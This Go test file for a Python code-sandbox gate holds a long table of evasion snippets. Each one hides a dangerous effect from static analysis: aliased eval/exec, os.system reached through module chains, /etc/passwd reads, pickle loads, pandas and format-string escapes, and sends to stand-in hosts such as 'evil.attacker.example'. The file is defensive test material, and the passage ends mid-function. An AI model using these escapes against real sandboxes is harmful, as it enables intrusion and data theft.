// SPDX-License-Identifier: Apache-2.0

package python

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/gate/report"
)

// evasions try to reach an effect without the gate seeing it. Every one must
// give an operation that no plain rule allows.
var evasions = map[string]string{
	// Rule 1: builtins, and names that may fall through to them.
	"eval under another name":                       "e = eval\ne('1')",
	"eval in a list":                                "[eval][0]('1')",
	"eval as a decorator":                           "@eval\n@(lambda _: '1')\nclass X: pass",
	"eval as a default":                             "def f(e=eval): return e('1')",
	"eval as a dunder method":                       "class A:\n  __getitem__ = eval\nA()['1']",
	"eval that is deleted later":                    "print(eval('1'))\neval = None",
	"eval that is bound in dead code":               "if 0:\n  eval = print\neval('1')",
	"eval shadowed in another scope":                "def f():\n  eval = print\neval('1')",
	"eval declared global":                          "def f():\n  global eval\n  return eval('1')",
	"eval in an annotation":                         "x: eval('1') = 1",
	"eval in a nested f-string":                     "f'{1:{eval(\"1\")}}'",
	"eval in a type parameter":                      "def f[T: eval('1')](): pass",
	"eval in a class that binds it after":           "class C:\n  x = eval('1')\n  eval = print",
	"eval in fullwidth letters":                     "ｅval('1')",
	"exec in mathematical letters":                  "𝓮𝔁𝓮𝓬('1')",
	"exec through builtins":                         "import builtins as b\nb.exec('1')",
	"exec from builtins under a safe name":          "from builtins import exec as print\nprint('1')",
	"__builtins__ as a name":                        "__builtins__.eval('1')",
	"__import__ called at once":                     "__import__('os').system('id')",
	"__import__ as a class item":                    "class A:\n  __class_getitem__ = __import__\nA['os']",
	"binding __builtins__":                          "__builtins__ = {}",
	"__loader__":                                    "__loader__.load_module('os')",
	"open as a value":                               "list(map(open, ['/etc/passwd']))",
	"open as an attribute":                          "class C:\n  o = open\nC.o('/etc/passwd')",
	"a match that captures attributes of a builtin": "match print:\n  case object(__self__=b): b.eval('1')",
	"globals":            "globals()['__builtins__']",
	"setattr on a class": "setattr(int, 'x', 1)",
	"help, which pages":  "help('modules')",
	// Rule 2: modules.
	"a module behind a module":                 "import random\nrandom._os.system('id')",
	"a module behind three modules":            "import json\njson.codecs.sys.modules['os']",
	"a module of a package":                    "import numpy as np\nnp.os.system('id')",
	"a module alias of an alias":               "import random as r\nx = r\ny = x\ny._os.system('id')",
	"a module in a list":                       "import numpy\n[numpy][0].load('x', allow_pickle=True)",
	"a module as an argument":                  "import numpy\ndef f(m): return m.load('x', allow_pickle=True)\nf(numpy)",
	"a module as a default":                    "import os\ndef f(m=os): m.system('id')",
	"a module in a walrus":                     "import os\n(m := os).system('id')",
	"a module in a conditional":                "import os\nm = os if 1 else 0\nm.system('id')",
	"a module in a loop":                       "import os\nfor m in [os]: m.remove('/etc/x')",
	"a module as a class variable":             "import numpy\nclass A:\n  np = numpy\n  load = 1\nA.np.load('x', allow_pickle=True)",
	"a module imported in a class":             "class A:\n  import numpy as q\n  load = 1\nA.q.load('x')",
	"a function imported in a class":           "class A:\n  from os import remove as index\nA.index('/etc/x')",
	"a module as an instance attribute":        "import os\nclass A: pass\na = A()\na.remove = 1\na.m = os\na.m.remove('/etc/x')",
	"a module returned by a lambda":            "import os\n(lambda: os)().remove('/etc/x')",
	"a module that a global statement exports": "def f():\n  import os as q\n  global g\n  g = q\nf()\ng.remove('/etc/x')",
	"a module in a nonlocal":                   "def f():\n  g = 1\n  def h():\n    nonlocal g\n    import os\n    g = os\n  h()\n  g.remove('/etc/x')",
	"a module under the name of another":       "import json\nimport os as json\njson.system('id')",
	"a module in an except branch":             "try:\n  import json\nexcept ImportError:\n  import os as json\njson.remove('/etc/x')",
	"a chain of twenty aliases":                "import os\na0 = os.remove\n" + aliasChain(20) + "a20('/etc/x')",
	"a chain of aliases bound backwards":       "def f():\n" + backwardChain(60) + "  a60('/etc/x')\nimport os\na0 = os.remove\nf()",
	"a module unpacked from a tuple":           "import os, sys\na, b = os, sys\na.remove('/etc/x')",
	"a star import":                            "from os import *\nremove('/etc/x')",
	"a relative import":                        "from . import x",
	"an unknown module":                        "import torch\ntorch.load('x')",
	"an unknown module below a known one":      "import numpy.ctypeslib",
	"an unknown module from a known one":       "from numpy import ctypeslib",
	"sys.modules":                              "import sys\nsys.modules['os'].system('id')",
	"importlib":                                "import importlib as i\ni.import_module('os')",
	"ctypes":                                   "import ctypes\nctypes.CDLL(None).system(b'id')",
	"pickle":                                   "from pickle import loads\nloads(b'x')",
	"patching a module":                        "import math\nmath.sin = print",
	"patching a library class":                 "import pandas as pd\npd.DataFrame.head = print",
	"patching through a loop target":           "import math\nfor math.sin in [1]: pass",
	"patching through a with target":           "import math\nwith open('/tmp/x') as math.sin: pass",
	// Rule 3: attributes.
	"a method that only pandas has, on anything":       "import pandas as pd\ndef f(x): x.to_pickle('/etc/x')",
	"a method hidden by a definition of the same name": "import pandas as pd\nclass A:\n  to_csv = 1\npd.DataFrame().to_csv('/etc/cron.d/x')",
	"a method as a value":                              "import pandas as pd\nf = pd.DataFrame().to_csv\nf('/etc/x')",
	"an unbound method":                                "import pandas as pd\npd.DataFrame.to_csv(pd.DataFrame(), '/etc/x')",
	"an unbound path method in map":                    "from pathlib import Path\nlist(map(Path.unlink, [Path('/etc/x')]))",
	"a frame of a generator, with the name defined":    "class A: gi_frame = f_back = f_builtins = 1\ndef g(): yield\ng().gi_frame.f_back.f_builtins",
	"a module of a warning context, defined":           "import warnings\nclass A: _module = linecache = 1\nwarnings.catch_warnings()._module.linecache.os",
	"the module of an attribute error":                 "try:\n  1\nexcept AttributeError as e: e.obj",
	"a file renamed through a variable":                "from pathlib import Path\np = Path('/etc/passwd')\nq = [p]\nq[0].rename('/tmp/x')",
	"a path replaced":                                  "from pathlib import Path\nfor p in [Path('/etc/x')]: p.replace('/etc/y')",
	"tofile":                                           "import numpy as np\nnp.array([1]).tofile('/etc/x')",
	// Rule 4: special names.
	"the subclasses of object":              "().__class__.__bases__[0].__subclasses__()",
	"__getattribute__":                      "object.__getattribute__(1, '__class__')",
	"__reduce_ex__":                         "().__reduce_ex__(2)",
	"the globals of a function":             "def f(): pass\nf.__globals__['x']",
	"the code of a function":                "def f(): pass\nf.__code__ = 1",
	"the class of an object":                "x = 1\nx.__class__ = int",
	"the dictionary of a module":            "import os\nos.__dict__['system']('id')",
	"a traceback":                           "try: 1/0\nexcept Exception as e: e.__traceback__.tb_frame",
	"a format template":                     "'{0.__class__}'.format(1)",
	"a format template as a value":          "list(map('{0.__class__}'.format, [1]))",
	"a format template in two parts":        "f = '{0.__cl' + 'ass__}'\nf.format(1)",
	"a format template that is computed":    "t = ''.join(['{0.__cl', 'ass__}'])\nt.format(1)",
	"str.format as a value":                 "list(map(str.format, ['{0.__class__}'], [1]))",
	"special attributes in a class pattern": "match 1:\n  case int(__class__=c): c",
	// Rule 5: computed names and classes.
	"getattr with a computed name":       "import os\ngetattr(os, 'sys' + input())('id')",
	"getattr with a folded name":         "import os\ngetattr(os, 'sys' + 'tem')('id')",
	"getattr with a constant name":       "import os\ngetattr(os, 'remove')('/etc/x')",
	"getattr under another name":         "g = getattr\ng(1, input())",
	"getattr in a partial":               "import functools, warnings\nfunctools.partial(getattr, warnings)('sys')",
	"getattr of a special attribute":     "getattr(1, '__class__')",
	"type with three arguments":          "type('X', (), {'f': 1})",
	"type under another name":            "t = type\nt('X', (), {})",
	"attrgetter of a special attribute":  "import operator\noperator.attrgetter('a.__class__')(1)",
	"methodcaller of a sensitive method": "from operator import methodcaller as m\nm('system', 'id')",
	"attrgetter with a computed name":    "import operator\noperator.attrgetter(input())(1)",
	// Rule 6: strings that name or are code.
	"agg by a method with an effect":            "import pandas as pd\npd.DataFrame([1]).agg('to_pickle', 0, '/etc/x')",
	"apply by a name in a variable":             "import pandas as pd\nn = 'to_' + input()\npd.DataFrame([1]).apply(n)",
	"agg by names in a dictionary":              "import pandas as pd\npd.DataFrame([1]).agg({'a': ['sum', 'to_pickle']})",
	"named aggregation":                         "import pandas as pd\npd.DataFrame([1]).groupby('a').agg(x=('b', 'to_pickle'))",
	"pivot_table by an unknown function":        "import pandas as pd\ndef f(x): pd.DataFrame().pivot_table(aggfunc=x)",
	"query with a local module":                 "import pandas as pd\npd.DataFrame([1]).query('@pd.io.common.os.system(\"id\")')",
	"eval with a call":                          "import pandas as pd\npd.DataFrame([1]).eval('a.to_pickle(\"/etc/x\")')",
	"pandas.eval":                               "import pandas as pd\npd.eval('1')",
	"pandas.eval as a value":                    "import pandas as pd\npd.Series(['1']).apply(pd.eval)",
	"a plotting backend":                        "import pandas as pd\npd.DataFrame([1]).plot(backend='os')",
	"a plotting backend as an option":           "import pandas as pd\npd.set_option('plotting.backend', 'os')",
	"a plotting backend as an attribute":        "import pandas as pd\npd.options.plotting.backend = 'os'",
	"a matplotlib backend module":               "import matplotlib\nmatplotlib.use('module://evil')",
	"a matplotlib backend as a setting":         "import matplotlib.pyplot as plt\nplt.rcParams['backend'] = 'module://evil'",
	"LaTeX as a setting":                        "import matplotlib.pyplot as plt\nplt.rc('text', usetex=True)",
	"LaTeX as a setting in a dictionary":        "import matplotlib\nmatplotlib.rcParams.update({'text.usetex': True})",
	"settings from a file":                      "import matplotlib\nmatplotlib.rc_context({'font.size': 1}, fname='/etc/x')",
	"LaTeX as an argument":                      "import matplotlib.pyplot as plt\nplt.text(0, 0, 'x', usetex=True)",
	"a style from a URL":                        "import matplotlib.pyplot as plt\nplt.style.use('http://evil/x.mplstyle')",
	"pickles in arrays":                         "import numpy as np\nnp.load('x', allow_pickle=True)",
	"pickles in arrays, by position":            "import numpy as np\nnp.load('x', None, True)",
	"pickles in arrays, in a partial":           "import numpy as np, functools\nfunctools.partial(np.load, allow_pickle=True)('x')",
	"annotations that singledispatch evaluates": "from functools import singledispatch\n@singledispatch\ndef f(x): pass\n@f.register\ndef _(x: \"__import__('os').system('id')\"): pass",
	"annotations that get_type_hints evaluates": "import typing\ndef f(x: \"__import__('os')\"): pass\ntyping.get_type_hints(f)",
	"remote storage options":                    "import pandas as pd\npd.read_csv('/tmp/x', storage_options={'a': 1})",
	// Objects that make or become others.
	"the class of an open file opens another":     "type(open('/tmp/x', 'rb', 0))('/etc/passwd')",
	"the class of a stream, through a variable":   "import sys\nt = type(sys.stdout)\nt('/etc/x')",
	"an open file that is initialised again":      "open('/tmp/x', 'rb', 0).__init__('/etc/passwd')",
	"an archive that opens another":               "import tarfile\ntarfile.open('/tmp/a.tar').gzopen('/etc/x')",
	"a path whose text is replaced":               "from pathlib import Path\np = Path('/tmp/x')\np._str = '/etc/passwd'\np.read_text()",
	"a connection whose host is replaced":         "import http.client\nc = http.client.HTTPConnection('ok.example')\nc.host = 'evil.example'",
	"a log handler whose file is replaced":        "import logging\nh = logging.StreamHandler()\nh.baseFilename = '/etc/x'",
	"an event loop with methods the code defines": "import asyncio\nclass A: subprocess_shell = _make_subprocess_transport = 1\nasyncio.new_event_loop().subprocess_shell(print, 'id')",
	"a private method of the event loop":          "import asyncio\nclass A: _make_self_pipe = 1\nasyncio.new_event_loop()._make_self_pipe()",
	"a picture that writes itself":                "import matplotlib.pyplot as plt\nplt.imshow([[1]]).write_png('/etc/x')",
	"a file descriptor by number":                 "open(3)",
	"a file descriptor in a variable":             "n = 3\nopen(n)",
	// What is read and what is shown.
	"code behind a bare carriage return":      "# note\rimport os\ros.system('id')",
	"code behind a bidirectional override":    "x = 1 # \u202e } \u2066if admin\u2069\neval('1')",
	"a form feed that resets the indentation": "if 1:\n  x = 1\n\f  y = 1\n",
	// Effects of modules that are known.
	"a path through os.path.join":               "import os\nopen(os.path.join('/etc', 'shadow'))",
	"a directory change in a context":           "import contextlib\nwith contextlib.chdir('/etc'): open('passwd')",
	"time zones from any file":                  "from dateutil import tz\ntz.gettz('/etc/passwd')",
	"the hardware address, which runs programs": "import uuid\nuuid.getnode()",
	"reading a file line by line":               "import linecache\nlinecache.getline('/etc/passwd', 1)",
	"a log file":                                "import logging\nlogging.FileHandler('/etc/x')",
	"a log configuration that imports":          "import logging.config\nlogging.config.dictConfig({})",
	"an archive member outside of the archive":  "import tarfile\ntarfile.open('/tmp/a.tar').extractall('/')",
	"a tracer":                                            "import sys\nsys.settrace(print)",
	"a process pool":                                      "from concurrent.futures import ProcessPoolExecutor as P\nP()",
	"a subprocess of asyncio":                             "import asyncio\nasyncio.create_subprocess_shell('id')",
	"a class variable that hides exec":                    "o = exec\nclass A:\n    o(\"import os; print(os.popen('id').read() if 0 else open('/etc/passwd').read()[:60], os.getpid())\")\n    o = print",
	"a class variable that hides a path":                  "p = \"/etc/passwd\"\nclass A:\n    t = open(p).read()\n    p = \"/inputs/x\"\nprint(A.t[:60])",
	"a class variable that hides open":                    "o = open\nclass A:\n    x = o(\"/etc/passwd\").read()\n    def o(self): pass\nprint(A.x[:20])",
	"a class variable that hides a local path":            "def mk():\n    p = \"/etc/passwd\"\n    class A:\n        t = open(p).read()\n        p = \"/inputs/x\"\n    return A\nmk()",
	"exec in a nonlocal that is bound before":             "def outer():\n    def inner():\n        nonlocal o\n        o = exec\n    o = print\n    inner()\n    o(\"print('PWNED nonlocal', open('/etc/hostname').read())\")\nouter()",
	"a path in a nonlocal that is bound before":           "def outer():\n    def inner():\n        nonlocal p\n        p = \"/etc/passwd\"\n    p = \"/inputs/x\"\n    inner()\n    print(open(p).read()[:20])\nouter()",
	"a format specification that empties a path":          "print(open(f\"{'/inputs/x':.0}/etc/passwd\").read()[:40])",
	"bytes in the text of a path":                         "print(open(f\"/tmp/a{b'/../..'}/workspace/x\").read())",
	"a class variable that hides exec in a comprehension": "o = exec\nclass A:\n  [x for x in o('1')]\n  o = print",
	"exec in a class that declares it nonlocal":           "def f():\n  class A:\n    nonlocal o\n    o = exec\n  o = print\n  o('1')",
	"a dataclass whose annotations are code":              "import dataclasses\n@dataclasses.dataclass(init=False, repr=False)\nclass C:\n    __annotations__ = {\"__class__,__import__('os').write(1,b'PWNED dataclass '+repr(__import__('os').listdir('/')).encode()+b'\\\\n')\": int}\nprint(C() == C())",
	"attributes that match_args names":                    "import abc\nclass M(abc.ABC):\n    __match_args__ = (\"__builtins__\",)\n    @classmethod\n    def __subclasshook__(cls, c):\n        return True\ndef f():\n    pass\nmatch f:\n    case M(b):\n        b[\"exec\"](\"import os; print('PWNED match_args', os.listdir('/'))\")",
	"a copy that calls setstate":                          "import copy\nimport argparse\np = argparse.ArgumentParser()\nclass C:\n    def __reduce_ex__(self, n):\n        return (lambda: p, (), (None, {\"fromfile_prefix_chars\": \"@\"}))\ncopy.copy(C())\np.add_argument(\"lines\", nargs=\"*\")\nprint(p.parse_args([\"@/etc/passwd\"]))",
	"attributes that update_wrapper reads":                "import functools\nbox = []\nclass C:\n    def __setattr__(self, k, v):\n        box.append(v)\ndef f():\n    pass\nfunctools.update_wrapper(C(), f, assigned=(\"__builtins__\",), updated=())\nfunctools.update_wrapper(C(), f, assigned=(\"__globals__\",), updated=())\nfor v in box:\n    if isinstance(v, dict) and \"exec\" in v:\n        v[\"exec\"](\"import os; print('PWNED update_wrapper', os.listdir('/'))\")\n        break",
	"a library class that update_wrapper changes":         "import functools\nimport json\nclass T:\n    pass\nt = T()\nt.dumps = print\nfunctools.update_wrapper(json.JSONEncoder, t, assigned=(\"dumps\",), updated=())",
	"attributes that wraps reads":                         "import functools\nprint(functools.wraps(len, assigned=(\"__self__\",), updated=()))",
	"a module that an enum names":                         "import enum\nclass E(enum.Enum):\n    __module__ = \"pathlib\"\n    A = 1\nenum.global_enum(E)",
	"an enum that binds globals":                          "import enum\np = \"/inputs/x\"\n@enum.global_enum\nclass E(str, enum.Enum):\n    p = \"/etc/passwd\"\nprint(open(p).read()[:40])",
	"the main function of a module":                       "import base64, sys\nsys.argv[1:] = [\"-e\", \"/etc/passwd\"]\nbase64.main()",
	"a file prefix by position":                           "import argparse\np = argparse.ArgumentParser(\"x\", None, None, None, [], argparse.HelpFormatter, \"-\", \"@\")\np.add_argument(\"lines\", nargs=\"*\")\nprint(p.parse_args([\"@/etc/passwd\"]))",
	"a file prefix in double stars":                       "import argparse\np = argparse.ArgumentParser(**{\"fromfile_prefix_chars\": \"@\"})\np.add_argument(\"lines\", nargs=\"*\")\nprint(p.parse_args([\"@/etc/passwd\"]))",
	"a metaclass that is called":                          "import abc\nX = abc.ABCMeta('X', (), {'__match_args__': ('__builtins__',)})",
	"a dataclass of an enum made by a call":               "import enum, dataclasses\nclass E(enum.Enum): pass\ndataclasses.dataclass(E('X', {'__annotations__': {'x': int}}))",
	"annotations bound by a capture":                      "class A:\n  match {}:\n    case __annotations__: pass",
	"annotations bound by a walrus":                       "class A:\n  (__annotations__ := {})",
	"a dispatcher as a value":                             "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndef f():\n    pass\nh = df.agg\ng = h(\"eval\", expr=\"@f.__builtins__.get('exec')\", engine=\"python\", local_dict={\"f\": f})\ng(\"import os; print('PWNED pandas agg', os.listdir('/'))\")",
	"dispatch by a name that str makes":                   "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndef f():\n    pass\nprint(df.apply(str(\"eval\"), expr=\"@f.__builtins__.get('exec')('print(\\\"PWNED df.apply\\\", __import__(\\\"os\\\").listdir(\\\"/\\\"))')\", local_dict={\"f\": f}))",
	"dispatch by a keyword through a value":               "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ng = df.apply\ng(\"to_csv\", path_or_buf=\"/tmp/pwned-apply.csv\")\nprint(open(\"/tmp/pwned-apply.csv\").read())",
	"an unbound dispatcher":                               "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndef f():\n    pass\nprint(pd.DataFrame.apply(df, \"eval\", 0, False, None, (), expr=\"@f.__globals__\", local_dict={\"f\": f}))",
	"an unbound dispatcher with a made name":              "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndef f():\n    pass\ng = pd.DataFrame.apply(df, str(\"eval\"), expr=\"@f.__builtins__.get('exec')\", engine=\"python\", local_dict={\"f\": f})\ng(\"import os; print('PWNED pandas apply', os.listdir('/'))\")",
	"dispatch by a class variable":                        "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndef f():\n    pass\npd.DataFrame.apply(df, \"eval\", expr=\"@f.__class__\", local_dict={\"f\": f})\nclass C:\n    name = \"eval\"\ndf.apply(C.name, expr=\"@f.__class__\", local_dict={\"f\": f})",
	"an imported pivot_table":                             "import pandas as pd\nfrom pandas import pivot_table\ndf = pd.DataFrame({\"a\": [1], \"b\": [2]})\nprint(pivot_table(df, index=\"a\", aggfunc=\"to_csv\"))\ndf.pivot_table(index=\"a\", aggfunc=\"to_pickle\")",
	"a plotting backend in double stars":                  "import pandas as pd\ndf = pd.DataFrame({\"a\": [1]})\ndf.plot(**{\"backend\": \"antigravity\"})",
	"a style context from a file":                         "import matplotlib.pyplot as plt\nwith plt.style.context(\"/etc/passwd\"):\n    pass\nwith plt.style.context(\"http://evil.attacker.example/x.mplstyle\"):\n    pass",
	"pandas.to_pickle":                                    "import pandas as pd\npd.to_pickle({\"a\": 1}, \"/tmp/pwned.pkl\")\ntry:\n    pd.to_pickle({\"a\": 1}, \"http://198.51.100.20/?data=secret\")\nexcept OSError as e:\n    print(\"network tried:\", e)",
	"LaTeX in the default settings":                       "import matplotlib\nimport matplotlib.pyplot as plt\nmatplotlib.rcParamsDefault[\"text.usetex\"] = True\nmatplotlib.rcdefaults()\nfig, ax = plt.subplots()\nax.set_title(\"x\")\ntry:\n    fig.savefig(\"/workspace/a.png\")\nexcept RuntimeError as e:\n    print(\"latex was tried:\", str(e)[:200])",
	"LaTeX in double stars":                               "import matplotlib.pyplot as plt\nplt.setp(plt.gca().set_title(\"x\"), **{\"usetex\": True})\nplt.text(0, 0, \"x\", fontdict={\"usetex\": True})",
	"a font from a file":                                  "import matplotlib.pyplot as plt\nplt.text(0, 0, \"x\", fontproperties=\"DejaVu Sans:file=/etc/passwd\")",
	"a stylesheet of XML":                                 "import pandas as pd\npd.read_xml(\"/inputs/a.xml\", stylesheet=\"http://evil/x.xsl\")",
	"a parent directory behind a symbolic link":           "import os\nos.symlink(\"/inputs\", \"/workspace/l\")\nprint(open(\"/workspace/l/../etc/passwd\").read()[:80])",
	"a parent directory behind an archive":                "import shutil\nshutil.unpack_archive(\"/workspace/x.tar\", \"/workspace/d\")\nprint(open(\"/workspace/d/l/etc/passwd\").read())",
	"an archive of another directory":                     "import shutil\nshutil.make_archive(\"/workspace/a\", \"tar\", \"/workspace\", \"../etc\")",
	"a glob below another root":                           "import glob, pathlib\nprint(glob.glob(\"*\", root_dir=\"/etc\"))\nprint(list(pathlib.Path(\"/workspace\").glob(\"../etc/*\")))",
	"links":                                               "import shutil, os\ndef w(path):\n    with open(path, \"w\") as f:\n        f.write(\"x\")\nos.link(\"/inputs/x\", \"/workspace/y\")\nos.rename(\"/workspace/y\", \"/workspace/z\")\nshutil.copytree(\"/inputs\", \"/workspace/i\", symlinks=True)",
	"tofile on a value without its module":                "import matplotlib.pyplot as plt\nn, bins, p = plt.hist([1, 2])\nbins.tofile(\"/tmp/../tmp/pwned\")\nbins.dump(\"/etc/pwned\")",
	"an index in a format template":                       "import os\ng = (x for x in [1])\nprint(\"{0.gi_frame.f_globals[os].environ}\".format(g))",
	"a format template in a style attribute":              "import os\nclass C:\n    pass\ndef f():\n    pass\nc = C()\nc.style = \"{0.__globals__[os].environ}\"\nprint(c.style.format(f))",
	"a message identifier, which asks for the host name":  "import email.utils\nprint(email.utils.make_msgid())",
	"a canvas that writes itself":                         "import matplotlib.pyplot as plt\nclass X:\n    print_raw = 0\nfig = plt.figure()\nfig.canvas.print_raw(\"/tmp/pwned.raw\")",
	"a database by URI":                                   "import sqlite3\nsqlite3.connect('file:/etc/x', uri=True)",
	"a removal in another directory":                      "import os\nos.remove('x', **{'dir_fd': 3})",
	"a list of methods that is changed":                   "import pandas as pd\nf = ['sum']\nf.append('to_pickle')\npd.DataFrame().agg(f)",
	"named aggregation by NamedAgg":                       "import pandas as pd\npd.DataFrame().agg(x=pd.NamedAgg('a', 'to_pickle'))",
	"a function that a decorator replaces":                "import pandas as pd\n@min\ndef f(): pass\npd.DataFrame().agg(f)",
	"a browser":                                           "import webbrowser\nwebbrowser.open('http://x')",
	// Properties, time zones and enums: strings and keys that are more than data.
	"a time zone from any file":                               "import pandas as pd\npd.Timestamp('2020-01-01', tz='dateutil//etc/passwd')",
	"a time zone from any file, by position":                  "import pandas as pd\nz = ''.join(['dateu', 'til//etc/passwd'])\npd.Timestamp('2020-01-01', None, z)",
	"a computed time zone":                                    "import pandas as pd\nz = ''.join(['dateu', 'til//etc/passwd'])\npd.Series().dt.tz_localize(z)",
	"a computed time zone of a range":                         "import pandas as pd\nz = chr(100) + 'ateutil//etc/passwd'\npd.date_range('2020', None, 1, 'D', z)",
	"a computed time zone as a keyword":                       "import pandas as pd\nz = chr(100) + 'ateutil//etc/passwd'\npd.date_range('2020', periods=1, tz=z)",
	"a time zone in a data type":                              "import pandas as pd\npd.Series(['2020-01-01']).astype('datetime64[ns, dateutil//etc/passwd]')",
	"a computed time zone in a data type":                     "import pandas as pd\nz = chr(100) + 'ateutil//etc/passwd'\npd.Series(['2020-01-01'], dtype=f'datetime64[ns, {z}]')",
	"a time zone under the name of another module":            "from pandas.tseries.holiday import Timestamp\nimport pandas\nTimestamp('2020', None, chr(100) + 'ateutil//etc/passwd')",
	"a data type in an attribute that the code defines":       "import pandas as pd\nclass A: dtype = chr(100) + 'ateutil//etc/passwd'\npd.Series(dtype=A().dtype)",
	"LaTeX in updated properties":                             "import matplotlib.pyplot as plt\nd = {}\nd['use' + 'tex'] = True\nplt.title('x').update(d)",
	"LaTeX in properties of a loop":                           "import matplotlib.pyplot as plt\nd = {k: True for k in [input()]}\nplt.title('x').update(d)",
	"LaTeX in a positional fontdict":                          "import matplotlib.pyplot as plt\nd = {'use' + 'tex'[:3] + input(): True}\nplt.title('x', d)",
	"LaTeX in the fontdict of a text":                         "import matplotlib.pyplot as plt\nd = {input(): True}\nplt.gca().text(0, 0, 'x', d)",
	"LaTeX in a fontdict keyword":                             "import matplotlib.pyplot as plt\nd = {input(): True}\nplt.gca().set_title('x', fontdict=d)",
	"LaTeX in text properties":                                "import matplotlib.pyplot as plt\nd = dict([(input(), True)])\nplt.pie([1], labels=['a'], textprops=d)",
	"LaTeX through setp":                                      "import matplotlib.pyplot as plt\nplt.setp(plt.title('x'), 'usetex', True)",
	"LaTeX through setp and a computed name":                  "import matplotlib.pyplot as plt\nplt.setp(plt.title('x'), input(), True)",
	"LaTeX through an alias of setp":                          "from matplotlib.pyplot import setp\nlist(map(setp, [1], ['usetex'], [True]))",
	"LaTeX by position":                                       "from matplotlib.text import Text\nText(0, 0, 'x', None, 'top', 'left', None, None, None, None, None, True)",
	"LaTeX by position, under another name":                   "from matplotlib.pyplot import Text\nText(0, 0, 'x', None, 'top', 'left', None, None, None, None, None, True)",
	"LaTeX in forwarded keywords":                             "import matplotlib.pyplot as plt\ndef f(**k): plt.gca().set_title('x', **k)\nf(**{input(): True})",
	"a font as a path":                                        "import matplotlib.pyplot as plt\nfrom pathlib import Path\nplt.title('x', fontproperties=Path('/etc/passwd'))",
	"a font as a property":                                    "import matplotlib.pyplot as plt\nplt.title('x').set_fontproperties('DejaVu Sans:file=/etc/passwd')",
	"a font in a dictionary":                                  "import matplotlib.pyplot as plt\nplt.legend(prop={'fname': '/etc/passwd'})",
	"a font in a made dictionary":                             "import matplotlib.pyplot as plt\nplt.legend(prop=dict(fname='/etc/passwd'))",
	"a font in a dictionary with a computed key":              "import matplotlib.pyplot as plt\nplt.legend(prop={input(): '/etc/passwd'})",
	"a font by its file":                                      "from matplotlib.font_manager import FontProperties\nFontProperties(fname='/etc/passwd')",
	"a font by its pattern":                                   "from matplotlib.font_manager import FontProperties\nFontProperties('DejaVu Sans:file=/etc/passwd')",
	"a font under the name of another module":                 "from matplotlib.text import FontProperties\nFontProperties(fname='/etc/passwd')",
	"a font whose file is set":                                "from matplotlib.font_manager import FontProperties\nFontProperties().set_file('/etc/passwd')",
	"a font whose pattern is set":                             "from matplotlib.font_manager import FontProperties\nFontProperties().set_fontconfig_pattern(':file=/etc/passwd')",
	"an enum made by a call":                                  "import enum\nenum.Enum('E', {'__annotations__': {}})",
	"an enum with computed members":                           "import enum\nenum.Enum('E', {input(): 1})",
	"an enum made by a base of the source":                    "import enum\nclass B(enum.Enum): pass\nB('E', [('__match_args__', ('x',))])",
	"an enum made by a base of a base":                        "import enum\nclass A(enum.IntEnum): pass\nclass B(A): pass\nB('E', names={'__reduce_ex__': 1})",
	"an enum whose class is told its module":                  "import enum\nenum.Enum('E', 'A B', module='os')",
	"copied links by position":                                "import shutil\nshutil.copytree('/inputs', '/workspace/i', True)",
	"an opener by position":                                   "open('/tmp/x', 'r', -1, None, None, None, True, lambda p, f: 3)",
	"a database URI by position":                              "import sqlite3\nsqlite3.connect('file:/etc/x', 5, 0, None, True, sqlite3.Connection, 100, True)",
	"a map that is written":                                   "import numpy as np\nnp.load('/etc/x.npy', mmap_mode='r+')",
	"a path whose text a method replaces":                     "from pathlib import PosixPath\nclass P(PosixPath):\n  def go(self): self._str = '/etc/passwd'\np = P('/tmp/x')\np.go()\np.read_text()",
	"a path that is passed as self":                           "from pathlib import Path\nclass A:\n  def go(self): self._str = '/etc/passwd'\np = Path('/tmp/x')\nA.go(p)\np.read_text()",
	"a path that a static method takes for self":              "from pathlib import Path\nclass A:\n  @staticmethod\n  def go(self): self._str = '/etc/passwd'\np = Path('/tmp/x')\nA().go(p)\np.read_text()",
	"a path in the second parameter, called self":             "from pathlib import Path\nclass A:\n  def go(me, self): self._str = '/etc/passwd'\np = Path('/tmp/x')\nA().go(p)\np.read_text()",
	"a self that is bound again":                              "from pathlib import Path\nclass A:\n  def go(self, p):\n    self = p\n    self._str = '/etc/passwd'\np = Path('/tmp/x')\nA().go(p)\np.read_text()",
	"a method under another name":                             "from pathlib import Path\nclass A:\n  def go(self): self._str = '/etc/passwd'\n  run = staticmethod(go)\np = Path('/tmp/x')\nA().run(p)\np.read_text()",
	"a prefix that goes on with dots":                         "x = input()\nopen(f'/workspace/{x}')",
	"a prefix that goes on in a join":                         "import os\nx = input()\nopen(os.path.join('/workspace', 'a' + x))",
	"a file by its name among the names of another directory": "import os\nfor n in os.listdir('/etc'): open(os.path.join('/etc', n))",
	"a URL among the names of a directory":                    "import pandas as pd, os\nfor n in os.listdir('/workspace'): pd.read_csv(n)",
	"an argument of fileinput":                                "import fileinput\nfor line in fileinput.input(None): print(line)",
	"an archive behind an array, with the name defined":       "import numpy as np\nclass A: zip = fid = 1\nnp.load('/tmp/a.npz').zip.extractall('/etc')",
	"a reader behind a workbook, with the name defined":       "import pandas as pd\nclass A: OpenpyxlReader = 1\npd.ExcelFile('/tmp/a.xlsx').OpenpyxlReader('/etc/x')",
	"a tree that is written canonically":                      "import xml.etree.ElementTree as E\nE.ElementTree().write_c14n('/etc/x')",
	"LaTeX in properties of a figure that pandas draws":       "import pandas as pd\nd = {}\nd['use' + 'tex'] = True\npd.DataFrame({'a': [1]}).plot().title.update(d)",
	"LaTeX in a figure that pandas.plotting draws":            "from pandas.plotting import scatter_matrix\nd = {k: True for k in [input()]}\nscatter_matrix(1)[0][0].title.update(d)",
	"a font in a figure that pandas draws":                    "import pandas as pd\npd.DataFrame({'a': [1]}).hist()[0][0].legend(prop={input(): '/etc/passwd'})",
}

func aliasChain(n int) string {
	out := ""
	for i := 1; i <= n; i++ {
		out += "a" + strconv.Itoa(i) + " = a" + strconv.Itoa(i-1) + "\n"
	}
	return out
}

func backwardChain(n int) string {
	out := "  global " + "a0"
	for i := 1; i <= n; i++ {
		out += ", a" + strconv.Itoa(i)
	}
	out += "\n"
